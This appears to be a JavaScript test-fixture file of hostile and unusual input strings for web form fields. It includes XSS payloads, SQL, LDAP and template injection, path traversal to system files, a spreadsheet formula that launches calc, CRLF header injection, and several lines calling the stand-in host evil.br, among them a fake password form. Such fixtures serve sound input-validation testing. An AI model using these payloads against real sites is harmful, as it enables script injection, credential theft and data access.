// Texts that attackers type or users paste by accident: markup with scripts, syntax of other languages, and unusual characters.
// Fields must either refuse them, or store and show them unchanged as text.

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.br/embed/aqz-KE-bpKQ"></iframe>',
  '<form action="https://evil.br"><input name="senha"><button>Entrar</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.br">',
  '<base href="https://evil.br/">',
  '<link rel="stylesheet" href="https://evil.br/x.css">',
  '<style>@import "https://evil.br/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  '<object data="javascript:alert(1)"></object>',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  "</textarea><script>alert(1)</script>",
  "<!--<img src='--><img src=x onerror=alert(1)>'>",
  "<x onclick=alert(1) tabindex=1>",
  '<a id="__proto__" name="innerHTML">x</a>',
];

const SYNTAX = [
  "'; drop table posts; --",
  "1' or '1'='1",
  '") or true --',
  "%' or 1=1 --",
  "*)(uid=*))(|(uid=*",
  "name.eq.x,role.eq.admin",
  "$" + "{7*7} {{7*7}} <%= 7*7 %> #{7*7}",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "=1+1",
  "@SUM(1+1)",
  "+cmd|' /C calc'!A0",
  "__proto__",
  "constructor.prototype",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "true",
  "[object Object]",
  "\\",
  "%00%0d%0aSet-Cookie: a=b",
];

const UNUSUAL_CHARACTERS = [
  "José D’Ávila — “ação” nº 3 ½",
  "😀👩‍👩‍👧‍👦🇧🇷",
  "Z̸a̴l̵g̶o̷",
  "\u202Etxt.exe",
  "ﷺ اَلْعَرَبِيَّةُ",
  "田中さん",
  "Ａｄｍｉｎ",
];

/** Texts with a line break, a control character or an unpaired surrogate: single-line fields refuse them. */
export const REFUSED_IN_ONE_LINE = ["a\r\nBcc: x@evil.br", "a\u0000b", "a\u001b[31m", "a\ud800b"];

export const NAUGHTY = [...MARKUP, ...SYNTAX, ...UNUSUAL_CHARACTERS];
